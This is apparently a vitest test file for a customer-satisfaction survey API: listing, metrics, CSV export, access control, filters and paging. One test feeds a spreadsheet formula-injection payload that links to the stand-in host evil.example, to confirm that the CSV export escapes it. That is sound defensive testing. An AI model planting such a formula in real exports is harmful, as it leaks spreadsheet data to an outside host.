import { describe, expect, it } from 'vitest';
import { useTestServer } from '../../../test/harness.js';
import { buildAccountFixture, buildConversation, buildInbox, type AccountFixture } from '../../../test/factories.js';
import { publicApi } from '../../../test/public-api.js';

const server = useTestServer();

const RESPONSE_KEYS = [
  'id',
  'rating',
  'feedback_message',
  'account_id',
  'message_id',
  'contact',
  'conversation_id',
  'assigned_agent',
  'created_at',
];

/** Unix seconds of a UTC date-time. */
const at = (iso: string) => Math.floor(Date.parse(iso) / 1000);

/** A conversation with an input_csat message sent by the administrator, as an agent can send one. */
async function surveyed(fx: AccountFixture, inboxId: number, body: Record<string, unknown> = {}) {
  const conversation = await buildConversation(fx, inboxId, body);
  const message = await fx.asAdmin('POST', `/conversations/${conversation.id}/messages`, {
    content: 'Please rate the conversation',
    content_type: 'input_csat',
  });
  expect(message.status, message.text).toBe(200);
  const row = await server()
    .db.selectFrom('conversations')
    .select(['id', 'contact_id'])
    .where('account_id', '=', fx.account.id)
    .where('display_id', '=', conversation.id)
    .executeTakeFirstOrThrow();
  return { conversation, messageId: message.body.id as number, row };
}

/** A response written straight into the table, as the Client API would have written it. */
async function respond(
  fx: AccountFixture,
  inboxId: number,
  values: { rating: number; created_at?: string; assigned_agent_id?: number | null; feedback_message?: string | null },
  conversationBody: Record<string, unknown> = {},
) {
  const { conversation, messageId, row } = await surveyed(fx, inboxId, conversationBody);
  const createdAt = new Date(values.created_at ?? Date.now());
  const inserted = await server()
    .db.insertInto('csat_survey_responses')
    .values({
      account_id: fx.account.id,
      conversation_id: row.id,
      message_id: messageId,
      contact_id: row.contact_id,
      assigned_agent_id: values.assigned_agent_id ?? null,
      rating: values.rating,
      feedback_message: values.feedback_message ?? null,
      created_at: createdAt,
      updated_at: createdAt,
    })
    .returning('id')
    .executeTakeFirstOrThrow();
  return { id: inserted.id, conversation, messageId };
}

const ids = (body: Array<{ id: number }>) => body.map((r) => r.id);

describe('CSAT survey responses', () => {
  it('lists, counts and exports a rating a contact gave through the Client API', async () => {
    const fx = await buildAccountFixture(server());
    const inbox = await buildInbox(fx, { csat_survey_enabled: true });
    const api = publicApi(server());
    const contact = await api.contact(inbox.inbox_identifier, { name: 'Rae', email: 'rae@example.com' });
    const conversation = await api.conversation(inbox.inbox_identifier, contact.source_id);
    await fx.asAdmin('POST', `/conversations/${conversation.id}/assignments`, { assignee_id: fx.agent.id });
    // resolving sends the survey (CsatSurveyService), then the contact answers it
    const resolved = await fx.asAdmin('POST', `/conversations/${conversation.id}/toggle_status`, {
      status: 'resolved',
    });
    expect(resolved.status, resolved.text).toBe(200);
    const rated = await api.request('PUT', `/csat_survey/${conversation.uuid}`, {
      message: { submitted_values: { csat_survey_response: { rating: 4, feedback_message: 'quick help' } } },
    });
    expect(rated.status, rated.text).toBe(200);

    const list = await fx.asAdmin('GET', '/csat_survey_responses');
    expect(list.status, list.text).toBe(200);
    expect(list.body).toHaveLength(1);
    const [response] = list.body;
    expect(Object.keys(response)).toEqual(RESPONSE_KEYS);
    expect(response).toMatchObject({
      rating: 4,
      feedback_message: 'quick help',
      account_id: fx.account.id,
      message_id: rated.body.id,
      conversation_id: conversation.id,
      contact: { id: contact.id, name: 'Rae', email: 'rae@example.com' },
      assigned_agent: { id: fx.agent.id, email: fx.agent.email, role: 'agent', account_id: fx.account.id },
    });
    expect(Math.abs(response.created_at - Date.now() / 1000)).toBeLessThan(60);

    const metrics = await fx.asAdmin('GET', '/csat_survey_responses/metrics');
    expect(metrics.status, metrics.text).toBe(200);
    expect(metrics.body).toEqual({ total_count: 1, ratings_count: { '4': 1 }, total_sent_messages_count: 1 });

    const since = Math.floor(Date.now() / 1000) - 3600;
    const until = since + 7200;
    const csv = await fx.asAdmin('GET', `/csat_survey_responses/download?since=${since}&until=${until}`);
    expect(csv.status, csv.text).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toContain('filename="csat_report.csv"');
    // fetch's text() drops a byte order mark: read the bytes to see it
    const raw = await fetch(`${server().url}/api/v1/accounts/${fx.account.id}/csat_survey_responses/download`, {
      headers: { api_access_token: fx.admin.access_token },
    });
    expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 'A'.charCodeAt(0)]);
    const lines = csv.text.trimEnd().split('\n');
    expect(lines[0]).toBe(
      'Agent Name,Rating,Feedback Comment,Contact Name,Contact Email Address,Contact Phone Number,Link to the conversation,Recorded date',
    );
    expect(lines[1]).toMatch(
      new RegExp(
        `^[^,]+ \\(${fx.agent.email}\\),4,quick help,Rae,rae@example.com,,https?://[^,]+/app/accounts/${fx.account.id}/conversations/${conversation.id},\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d UTC$`,
      ),
    );
    const day = (s: number) => new Date(s * 1000).toISOString().slice(0, 10);
    expect(lines[2]).toBe(`Reporting period ${day(since)} to ${day(until)}`);
    expect(lines).toHaveLength(3);
  });

  it('is for administrators: agents, strangers and other accounts are refused', async () => {
    const fx = await buildAccountFixture(server());
    const other = await buildAccountFixture(server());
    const inbox = await buildInbox(fx);
    await respond(fx, inbox.id, { rating: 5 });
    for (const path of ['', '/metrics', '/download']) {
      const agent = await fx.asAgent('GET', `/csat_survey_responses${path}`);
      expect(agent.status, agent.text).toBe(401);
      expect(agent.body).toEqual({ error: 'You are not authorized to do this action' });
      const anonymous = await server().request('GET', `/api/v1/accounts/${fx.account.id}/csat_survey_responses${path}`);
      expect(anonymous.status).toBe(401);
      const stranger = await server().request('GET', `/api/v1/accounts/${fx.account.id}/csat_survey_responses${path}`, {
        token: other.admin.access_token,
      });
      expect(stranger.status).toBe(401);
      expect(stranger.body).toEqual({ error: 'You are not authorized to access this account' });
    }
    // the other account's own reports show none of this account's responses
    expect((await other.asAdmin('GET', '/csat_survey_responses')).body).toEqual([]);
    expect((await other.asAdmin('GET', '/csat_survey_responses/metrics')).body).toEqual({
      total_count: 0,
      ratings_count: {},
      total_sent_messages_count: 0,
    });
  });

  it('filters by created_at in [since, until), agents, inbox, team and rating', async () => {
    const fx = await buildAccountFixture(server());
    const inbox = await buildInbox(fx);
    const otherInbox = await buildInbox(fx);
    const team = await fx.asAdmin('POST', '/teams', { name: `csat ${Date.now()}` });
    expect(team.status, team.text).toBe(200);
    const early = await respond(fx, inbox.id, { rating: 1, created_at: '2024-03-01T00:00:00Z' });
    const start = await respond(fx, inbox.id, {
      rating: 5,
      created_at: '2024-03-10T00:00:00Z',
      assigned_agent_id: fx.agent.id,
    });
    const middle = await respond(
      fx,
      otherInbox.id,
      { rating: 3, created_at: '2024-03-15T12:00:00Z', assigned_agent_id: fx.admin.id },
      { team_id: team.body.id },
    );
    const end = await respond(fx, inbox.id, { rating: 5, created_at: '2024-03-20T00:00:00Z' });
    const range = `since=${at('2024-03-10T00:00:00Z')}&until=${at('2024-03-20T00:00:00Z')}`;
    const get = async (query: string) => {
      const res = await fx.asAdmin('GET', `/csat_survey_responses?${query}`);
      expect(res.status, res.text).toBe(200);
      return ids(res.body);
    };
    expect(await get('')).toEqual([early.id, start.id, middle.id, end.id]);
    // the start is in, the end is out (since...until)
    expect(await get(range)).toEqual([start.id, middle.id]);
    // one bound alone is no range (DateRangeHelper needs both)
    expect(await get(`since=${at('2024-03-16T00:00:00Z')}`)).toHaveLength(4);
    expect(await get(`user_ids[]=${fx.agent.id}&user_ids[]=${fx.admin.id}`)).toEqual([start.id, middle.id]);
    expect(await get(`user_ids=${fx.admin.id}`)).toEqual([middle.id]);
    expect(await get(`user_ids[]=abc`)).toEqual([]);
    expect(await get(`inbox_id=${otherInbox.id}`)).toEqual([middle.id]);
    expect(await get(`team_id=${team.body.id}`)).toEqual([middle.id]);
    expect(await get('team_id=nonsense')).toEqual([]);
    expect(await get('rating=5')).toEqual([start.id, end.id]);
    expect(await get('rating[]=1&rating[]=3')).toEqual([early.id, middle.id]);
    expect(await get(`rating=5&${range}`)).toEqual([start.id]);
    expect(await get('sort=-created_at')).toEqual([end.id, middle.id, start.id, early.id]);

    const metrics = await fx.asAdmin('GET', `/csat_survey_responses/metrics?${range}`);
    // the surveys were sent now, outside March 2024
    expect(metrics.body).toEqual({ total_count: 2, ratings_count: { '3': 1, '5': 1 }, total_sent_messages_count: 0 });
    // the sent count follows the range only (Chatwoot filters it by nothing else)
    await server()
      .db.updateTable('messages')
      .set({ created_at: new Date('2024-03-12T00:00:00Z') })
      .where('id', 'in', [early.messageId, end.messageId])
      .execute();
    const withSent = await fx.asAdmin('GET', `/csat_survey_responses/metrics?${range}&rating=3`);
    expect(withSent.body).toEqual({ total_count: 1, ratings_count: { '3': 1 }, total_sent_messages_count: 2 });
  });

  it('pages 25 at a time as Kaminari does', async () => {
    const fx = await buildAccountFixture(server());
    const inbox = await buildInbox(fx);
    const { conversation, row } = await surveyed(fx, inbox.id);
    // 26 survey messages in one conversation, each answered
    const made: number[] = [];
    for (let i = 0; i < 26; i++) {
      const message = await fx.asAdmin('POST', `/conversations/${conversation.id}/messages`, {
        content: `Rate ${i}`,
        content_type: 'input_csat',
      });
      const createdAt = new Date(Date.UTC(2024, 0, 1, 0, i));
      const r = await server()
        .db.insertInto('csat_survey_responses')
        .values({
          account_id: fx.account.id,
          conversation_id: row.id,
          message_id: message.body.id,
          contact_id: row.contact_id,
          rating: (i % 5) + 1,
          created_at: createdAt,
          updated_at: createdAt,
        })
        .returning('id')
        .executeTakeFirstOrThrow();
      made.push(r.id);
    }
    const page = async (query: string) => ids((await fx.asAdmin('GET', `/csat_survey_responses?${query}`)).body);
    expect(await page('')).toEqual(made.slice(0, 25));
    expect(await page('page=1')).toEqual(made.slice(0, 25));
    expect(await page('page=2')).toEqual(made.slice(25));
    expect(await page('page=3')).toEqual([]);
    // Ruby's to_i: junk is page 1, "2abc" page 2
    expect(await page('page=abc')).toEqual(made.slice(0, 25));
    expect(await page('page=2abc')).toEqual(made.slice(25));
    expect(await page('page=-4')).toEqual(made.slice(0, 25));
    expect(await page('page=99999999999999999999')).toEqual([]);
    const metrics = await fx.asAdmin('GET', '/csat_survey_responses/metrics');
    expect(metrics.body).toEqual({
      total_count: 26,
      ratings_count: { '1': 6, '2': 5, '3': 5, '4': 5, '5': 5 },
      total_sent_messages_count: 27,
    });
  });

  it('refuses bad ranges with 422 and Chatwoot’s error body, never a 500', async () => {
    const fx = await buildAccountFixture(server());
    for (const path of ['', '/metrics', '/download']) {
      for (const query of [
        'since=yesterday&until=1710000000',
        'since=1710000000&until=17100000001e3',
        'since=1710000000&until=1700000000',
        `since=${at('1990-01-01T00:00:00Z')}&until=${at('2090-01-01T00:00:00Z')}`,
        'since=99999999999999&until=99999999999999',
      ]) {
        const res = await fx.asAdmin('GET', `/csat_survey_responses${path}?${query}`);
        expect(res.status, `${path}?${query}: ${res.text}`).toBe(422);
        expect(Object.keys(res.body)).toEqual(['error']);
      }
    }
    const long = await fx.asAdmin(
      'GET',
      `/csat_survey_responses/metrics?since=${at('2020-01-01T00:00:00Z')}&until=${at('2024-01-01T00:00:00Z')}`,
    );
    expect(long.body).toEqual({ error: 'The range between since and until is limited to 732 days' });
    // a year (the longest picker of Chatwoot's CSAT page) is fine
    const year = await fx.asAdmin(
      'GET',
      `/csat_survey_responses/metrics?since=${at('2023-01-01T00:00:00Z')}&until=${at('2024-01-01T00:00:00Z')}`,
    );
    expect(year.status, year.text).toBe(200);
    const tooMany = await fx.asAdmin(
      'GET',
      `/csat_survey_responses?${Array.from({ length: 1001 }, (_, i) => `user_ids[]=${i}`).join('&')}`,
    );
    expect(tooMany.status).toBe(422);
  });

  it('escapes cells a spreadsheet would run as formulas in the CSV', async () => {
    const fx = await buildAccountFixture(server());
    const inbox = await buildInbox(fx);
    await respond(fx, inbox.id, {
      rating: 2,
      feedback_message: '=HYPERLINK("https://evil.example/?"&A1,"click")',
      created_at: '2024-02-29T23:59:59Z',
    });
    await respond(fx, inbox.id, { rating: 3, feedback_message: '   ', created_at: '2024-03-01T08:00:00Z' });
    const csv = await fx.asAdmin(
      'GET',
      `/csat_survey_responses/download?since=${at('2024-02-29T00:00:00Z')}&until=${at('2024-03-02T00:00:00Z')}`,
    );
    expect(csv.status, csv.text).toBe(200);
    const lines = csv.text.trimEnd().split('\n');
    expect(lines).toHaveLength(4);
    // no agent: the first cell is empty; the formula gets an apostrophe and CSV quoting
    expect(lines[1]).toMatch(/^,2,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""click""\)",Contact [0-9a-f]+,/);
    expect(lines[1]).toMatch(/,2024-02-29 23:59:59 UTC$/);
    // a blank feedback is no feedback (`.presence`)
    expect(lines[2]).toMatch(/^,3,,Contact /);
    expect(lines[3]).toBe('Reporting period 2024-02-29 to 2024-03-02');
    // without a range there is no period line (Chatwoot fails there)
    const all = await fx.asAdmin('GET', '/csat_survey_responses/download');
    expect(all.status).toBe(200);
    expect(all.text.trimEnd().split('\n')).toHaveLength(3);
  });

  it('keeps a response whose agent left the account, with no role', async () => {
    const fx = await buildAccountFixture(server());
    const inbox = await buildInbox(fx);
    await respond(fx, inbox.id, { rating: 4, assigned_agent_id: fx.agent.id });
    const removed = await fx.asAdmin('DELETE', `/agents/${fx.agent.id}`);
    expect(removed.status, removed.text).toBe(200);
    const list = await fx.asAdmin('GET', '/csat_survey_responses');
    expect(list.status, list.text).toBe(200);
    expect(list.body[0].assigned_agent).toMatchObject({
      id: fx.agent.id,
      account_id: fx.account.id,
      availability_status: null,
      auto_offline: null,
      role: null,
      email: fx.agent.email,
    });
    const csv = await fx.asAdmin('GET', '/csat_survey_responses/download');
    expect(csv.text).toContain(`(${fx.agent.email}),4,`);
  });
});
